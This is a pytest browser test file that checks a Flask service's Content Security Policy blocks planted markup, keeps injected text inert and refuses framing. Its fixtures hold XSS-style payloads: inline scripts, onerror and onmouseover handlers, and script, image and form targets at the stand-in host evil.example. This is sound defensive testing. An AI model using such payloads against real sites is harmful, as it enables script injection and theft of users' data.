"""The pages in a real browser: nothing that they need is blocked, and nothing that was planted in them runs."""

from collections.abc import Iterator
from typing import Any

import pytest
from flask import make_response, render_template_string

from cds_service.app import create_app
from cds_service.pages import page as frame
from cds_service.settings import Settings
from tests.browser.running import Tab, serving, tab
from tests.signing import NOW

PAGES = ("/rules", "/rules/T-CYANO-RENAL", "/feedback-figures", "/source-attributes", "/nowhere", "/static/pages.css")
# The violations that the browser reports; init scripts of the driver run whatever the policy says
WATCH = """
window.blocked = [];
document.addEventListener("securitypolicyviolation", event => window.blocked.push(event.effectiveDirective));
"""
PLANTED = """<!doctype html><title>Planted</title>
<base href="https://evil.example/">
<style>h1 { color: red }</style>
<h1 style="color: red" onmouseover="window.ran = true">Planted</h1>
<script>window.ran = true</script>
<script src="/static/planted.js"></script>
<script src="https://evil.example/planted.js"></script>
<img src="https://evil.example/picture.png" onerror="window.ran = true">
<iframe src="/rules"></iframe>
<object data="/rules"></object>
<form id="form" action="https://evil.example/"><input name="x"></form>
"""
# What of it is blocked, by the directive that blocks it
BLOCKED = {
    "base-uri",
    "style-src-elem",
    "style-src-attr",
    "script-src-elem",
    "script-src-attr",
    "img-src",
    "frame-src",
    "object-src",
    "form-action",
}


@pytest.fixture(scope="module")
def browser() -> Iterator[Tab]:
    with tab() as opened:
        opened.page.add_init_script(WATCH)
        yield opened


@pytest.fixture
def requests(browser: Tab) -> Iterator[list[str]]:
    """The URLs that the page asks for while a test lasts. What the policy blocks is announced, and never sent."""
    asked: list[str] = []

    def note(request: Any) -> None:
        asked.append(request.url)

    def forget(request: Any) -> None:
        if request.failure == "csp":
            asked.remove(request.url)

    browser.page.on("request", note)
    browser.page.on("requestfailed", forget)
    yield asked
    browser.page.remove_listener("request", note)
    browser.page.remove_listener("requestfailed", forget)


@pytest.fixture(scope="module")
def service() -> Iterator[str]:
    """With two pages more: text and markup that nobody of us has written, under the policy of every page."""
    app = create_app(Settings(log_level="error"), clock=lambda: NOW)
    app.add_url_rule("/planted", "planted", lambda: _planted(PLANTED))
    text = "<script>window.ran = true</script>\"'><img src=x onerror='window.ran = true'>"
    app.add_url_rule("/text", "text", lambda: frame.page("problem.html", "1", text=text))
    script = ("window.ran = true", 200, {"Content-Type": "text/javascript"})
    app.add_url_rule("/static/planted.js", "script", lambda: script)
    with serving(app) as origin:
        yield origin


def _planted(markup: str) -> Any:
    response = make_response(render_template_string(markup))
    response.headers.update(frame.headers_for(""))
    return response


@pytest.mark.parametrize("path", PAGES)
def test_a_page_loads_whole_and_from_nowhere_else(browser: Tab, service: str, requests: list[str], path: str) -> None:
    answer = browser.page.goto(service + path, wait_until="networkidle")
    assert answer.status == (404 if path == "/nowhere" else 200)
    assert browser.page.evaluate("window.blocked") == []
    assert service + path in requests
    assert [url for url in requests if not url.startswith(f"{service}/")] == []
    if not path.startswith("/static"):
        asked = {url.partition("?")[0] for url in requests[1:]}
        assert asked >= {f"{service}/static/pages.css", f"{service}/static/icon.svg"}
        assert browser.page.evaluate("document.styleSheets[0].cssRules.length") > 0
    assert browser.page.context.cookies() == []


def test_what_is_planted_does_not_run_or_load(browser: Tab, service: str, requests: list[str]) -> None:
    browser.page.goto(f"{service}/planted", wait_until="networkidle")
    browser.page.hover("h1")
    browser.page.evaluate("document.getElementById('form').submit()")
    browser.page.wait_for_function("window.blocked.includes('form-action')")
    assert browser.page.evaluate("window.ran") is None
    assert set(browser.page.evaluate("window.blocked")) == BLOCKED
    assert requests == [f"{service}/planted"]
    assert browser.page.evaluate("getComputedStyle(document.querySelector('h1')).color") == "rgb(0, 0, 0)"


def test_text_that_looks_like_a_script_is_shown(browser: Tab, service: str) -> None:
    browser.page.goto(f"{service}/text", wait_until="networkidle")
    assert browser.page.inner_text("h1").startswith("<script>window.ran = true</script>")
    assert browser.page.evaluate("[window.ran, window.blocked]") == [None, []]


def test_a_page_stands_in_no_frame(browser: Tab, service: str) -> None:
    """Nor does an answer that is data. The page around it is of another origin, which has no policy."""
    browser.page.goto(browser.origin)
    for path in ("/rules", "/cds-services"):
        browser.page.evaluate(
            """url => new Promise(done => {
              const frame = document.body.appendChild(document.createElement("iframe"));
              frame.onload = done; frame.onerror = done; frame.src = url;
            })""",
            service + path,
        )
        assert browser.page.frames[-1].url == "chrome-error://chromewebdata/"


def test_no_page_of_another_origin_loads_an_answer_as_a_script_or_picture(browser: Tab, service: str) -> None:
    """Without CORS; with it, test_cors.py shows that a script reads every answer."""
    browser.page.goto(browser.origin)
    for path in ("/cds-services", "/static/pages.css", "/openapi.json"):
        for how in ("no-cors", "cors"):
            answer = browser.fetch(service + path, mode=how)
            assert ("refused" in answer) is (how == "no-cors"), answer
